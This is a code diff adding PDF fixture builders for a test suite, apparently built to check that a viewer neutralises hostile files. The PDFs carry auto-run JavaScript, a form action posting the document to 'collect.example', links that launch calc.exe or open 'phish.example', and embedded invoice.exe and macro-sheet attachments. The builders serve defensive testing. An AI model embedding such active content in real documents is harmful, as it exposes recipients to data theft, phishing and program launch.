@@ -281,3 +281,271 @@ def jpeg_claiming(width: int, height: int) -> bytes:
     sof = data.index(b"\xff\xc0")
     data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
     return bytes(data)
+
+
+# --- active content (tests/test_hostile_files.py): what a PDF can do in the IR's viewer ----------
+
+
+def _pikepdf_document(texts: list[str]):
+    """A pikepdf document with one A4 page per text, each page showing its text."""
+    import pikepdf
+    from pikepdf import Dictionary, Name
+
+    pdf = pikepdf.new()
+    font = pdf.make_indirect(
+        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
+    )
+    for text in texts:
+        pdf.add_blank_page(page_size=(595, 842))
+        page = pdf.pages[-1].obj
+        page.Resources = Dictionary(Font=Dictionary(F1=font))
+        page.Contents = pdf.make_stream(b"BT /F1 14 Tf 72 770 Td (%s) Tj ET" % text.encode())
+    return pdf
+
+
+def _saved(pdf, **options) -> bytes:
+    out = io.BytesIO()
+    pdf.save(out, **options)
+    return out.getvalue()
+
+
+def _script(code: str):
+    from pikepdf import Dictionary, Name, String
+
+    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code))
+
+
+def scripted_pdf() -> bytes:
+    """JavaScript when the document opens (/OpenAction, with a second script chained by
+    /Next), two document-level scripts in the /Names JavaScript tree, and one on closing."""
+    from pikepdf import Array, Dictionary, String
+
+    pdf = _pikepdf_document(["Scripted letter"])
+    opening = _script("app.alert('opened')")
+    opening.Next = _script("this.exportDataObject({cName: 'x', nLaunch: 2})")
+    pdf.Root.OpenAction = pdf.make_indirect(opening)
+    pdf.Root.Names = Dictionary(
+        JavaScript=Dictionary(
+            Names=Array(
+                [
+                    String("a"),
+                    pdf.make_indirect(_script("app.launchURL('https://x.example')")),
+                    String("b"),
+                    pdf.make_indirect(_script("app.beep(0)")),
+                ]
+            )
+        )
+    )
+    pdf.Root.AA = Dictionary(WC=_script("app.alert('closing')"))
+    return _saved(pdf)
+
+
+def page_actions_pdf() -> bytes:
+    """A page that runs JavaScript when shown and posts the document to a web address when
+    closed (page /AA)."""
+    from pikepdf import Dictionary, Name, String
+
+    pdf = _pikepdf_document(["Page actions letter"])
+    submit = Dictionary(
+        S=Name.SubmitForm,
+        F=Dictionary(FS=Name.URL, F=String("https://collect.example/submit")),
+        Flags=4,
+    )
+    pdf.pages[0].obj.AA = Dictionary(O=_script("app.alert('shown')"), C=submit)
+    return _saved(pdf)
+
+
+def linked_pdf() -> bytes:
+    """Two pages. Page 1 has links that run JavaScript, launch a program and open a web
+    address, and two internal links to page 2 (a GoTo action and a /Dest). The outline has a
+    bookmark to page 2 and one that opens a web address."""
+    from pikepdf import Array, Dictionary, Name, String
+
+    pdf = _pikepdf_document(["Linked letter page one", "Linked letter page two"])
+    second = pdf.pages[1].obj
+
+    def link(y: int, **entries):
+        return pdf.make_indirect(
+            Dictionary(
+                Type=Name.Annot,
+                Subtype=Name.Link,
+                Rect=[72, y, 300, y + 20],
+                Border=[0, 0, 0],
+                **entries,
+            )
+        )
+
+    pdf.pages[0].obj.Annots = Array(
+        [
+            link(700, A=_script("app.alert('clicked')")),
+            link(670, A=Dictionary(S=Name.Launch, F=String("C:\\Windows\\System32\\calc.exe"))),
+            link(640, A=Dictionary(S=Name.URI, URI=String("https://phish.example/login"))),
+            link(610, A=Dictionary(S=Name.GoTo, D=Array([second, Name.Fit]))),
+            link(580, Dest=Array([second, Name.Fit])),
+        ]
+    )
+    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines))
+    to_page = pdf.make_indirect(
+        Dictionary(
+            Title=String("Results"),
+            Parent=outlines,
+            A=Dictionary(S=Name.GoTo, D=Array([second, Name.Fit])),
+        )
+    )
+    to_web = pdf.make_indirect(
+        Dictionary(
+            Title=String("Portal"),
+            Parent=outlines,
+            Prev=to_page,
+            A=Dictionary(S=Name.URI, URI=String("https://phish.example/")),
+        )
+    )
+    to_page.Next = to_web
+    outlines.First, outlines.Last, outlines.Count = to_page, to_web, 2
+    pdf.Root.Outlines = outlines
+    return _saved(pdf)
+
+
+def attachment_pdf() -> bytes:
+    """A file-attachment annotation carrying a program, an /EmbeddedFiles name tree with
+    another file, and the same file again as an associated file (/AF) of the document."""
+    from pikepdf import Array, Dictionary, Name, String
+
+    pdf = _pikepdf_document(["Letter with attachments"])
+
+    def filespec(name: str, data: bytes):
+        stream = pdf.make_stream(data, Type=Name.EmbeddedFile)
+        return pdf.make_indirect(
+            Dictionary(
+                Type=Name.Filespec,
+                F=String(name),
+                UF=String(name),
+                EF=Dictionary(F=stream, UF=stream),
+            )
+        )
+
+    program = filespec("invoice.exe", b"MZ" + bytes(64))
+    sheet = filespec("results.xlsm", b"PK\x03\x04 macro sheet")
+    pdf.pages[0].obj.Annots = Array(
+        [
+            pdf.make_indirect(
+                Dictionary(
+                    Type=Name.Annot,
+                    Subtype=Name.FileAttachment,
+                    Rect=[72, 700, 92, 720],
+                    FS=program,
+                    Name=Name.Paperclip,
+                    Contents=String("Open me"),
+                )
+            )
+        ]
+    )
+    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("r"), sheet])))
+    pdf.Root.AF = Array([sheet])
+    return _saved(pdf)
+
+
+def form_pdf() -> bytes:
+    """An AcroForm with a filled-in text field that runs JavaScript on each keystroke (/AA),
+    and an XFA form beside it."""
+    from pikepdf import Array, Dictionary, Name, String
+
+    pdf = _pikepdf_document(["Referral form"])
+    page = pdf.pages[0].obj
+    font = page.Resources.Font.F1
+    field = pdf.make_indirect(
+        Dictionary(
+            Type=Name.Annot,
+            Subtype=Name.Widget,
+            FT=Name.Tx,
+            T=String("patient"),
+            V=String("Joan Sample"),
+            DA=String("/Helv 11 Tf 0 g"),
+            F=4,
+            Rect=[72, 700, 320, 720],
+            P=page,
+            AA=Dictionary(K=_script("event.value = event.value.toUpperCase()")),
+        )
+    )
+    page.Annots = Array([field])
+    xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template/></xdp:xdp>")
+    pdf.Root.AcroForm = Dictionary(
+        Fields=Array([field]),
+        NeedAppearances=True,
+        DA=String("/Helv 11 Tf 0 g"),
+        DR=Dictionary(Font=Dictionary(Helv=font)),
+        XFA=xfa,
+    )
+    return _saved(pdf)
+
+
+def media_pdf() -> bytes:
+    """A RichMedia (Flash) annotation, a 3D annotation and a Screen annotation that plays a
+    rendition."""
+    from pikepdf import Array, Dictionary, Name, String
+
+    pdf = _pikepdf_document(["Letter with media"])
+    page = pdf.pages[0].obj
+    swf = pdf.make_stream(b"FWS\x0a" + bytes(32), Type=Name.EmbeddedFile)
+    asset = Dictionary(Type=Name.Filespec, F=String("player.swf"), EF=Dictionary(F=swf))
+    rich = Dictionary(
+        Type=Name.Annot,
+        Subtype=Name.RichMedia,
+        Rect=[72, 600, 300, 700],
+        RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([String("player.swf"), asset]))),
+    )
+    u3d = pdf.make_stream(b"U3D\x00" + bytes(32), Type=Name("/3D"), Subtype=Name.U3D)
+    model = Dictionary(
+        Type=Name.Annot, Subtype=Name("/3D"), Rect=[72, 480, 300, 580], **{"/3DD": u3d}
+    )
+    screen = Dictionary(
+        Type=Name.Annot,
+        Subtype=Name.Screen,
+        Rect=[72, 360, 300, 460],
+        A=Dictionary(S=Name.Rendition, OP=0, JS=String("app.alert('media')")),
+    )
+    page.Annots = Array([pdf.make_indirect(a) for a in (rich, model, screen)])
+    return _saved(pdf)
+
+
+def owner_locked_pdf() -> bytes:
+    """A PDF that opens without a password but whose owner password forbids copying,
+    printing and changes (AES-256)."""
+    import pikepdf
+
+    pdf = _pikepdf_document(["Locked letter"])
+    allow = pikepdf.Permissions(
+        extract=False,
+        modify_other=False,
+        print_highres=False,
+        print_lowres=False,
+        modify_form=False,
+        modify_annotation=False,
+    )
+    return _saved(pdf, encryption=pikepdf.Encryption(owner="owner-secret", user="", allow=allow))
+
+
+def many_pages_pdf(pages: int, *, per_node: int = 100) -> bytes:
+    """A real page tree of `pages` pages (its /Count and /Kids agree), all sharing one content
+    stream, with the objects packed into compressed object streams: 20 000 pages take about
+    200 KB."""
+    import pikepdf
+
+    nodes = -(-pages // per_node)
+    first_node, first_page = 4, 4 + nodes
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [%s] /Count %d /MediaBox [0 0 595 842] >>"
+        % (b" ".join(b"%d 0 R" % (first_node + n) for n in range(nodes)), pages),
+        pdf_stream(b"BT /F1 12 Tf 72 770 Td (One of many pages) Tj ET"),
+    ]
+    for n in range(nodes):
+        count = min(per_node, pages - n * per_node)
+        kids = b" ".join(b"%d 0 R" % (first_page + n * per_node + i) for i in range(count))
+        objects.append(b"<< /Type /Pages /Parent 2 0 R /Kids [%s] /Count %d >>" % (kids, count))
+    objects += [
+        b"<< /Type /Page /Parent %d 0 R /Contents 3 0 R >>" % (first_node + p // per_node)
+        for p in range(pages)
+    ]
+    pdf = pikepdf.open(io.BytesIO(assemble_pdf(objects)))
+    return _saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)
